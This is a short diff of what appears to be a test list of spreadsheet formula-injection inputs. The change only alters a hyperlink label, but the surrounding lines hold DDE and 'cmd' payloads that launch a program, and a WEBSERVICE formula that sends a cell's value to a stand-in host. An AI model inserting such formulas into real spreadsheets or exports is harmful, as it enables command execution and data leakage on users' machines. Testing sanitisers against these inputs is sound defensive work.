@@ -4,7 +4,7 @@ const starts = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '＝', '"=', ';='
 const formulas = [
   '1+1',
   'SUM(A1:A9)',
-  'HYPERLINK("http://x.example","点我")',
+  'HYPERLINK("http://x.example","y")',
   "cmd|' /C calc'!A0",
   'WEBSERVICE("http://x.example/?"&A1)',
   'DDE("cmd";"/C calc";"x")',
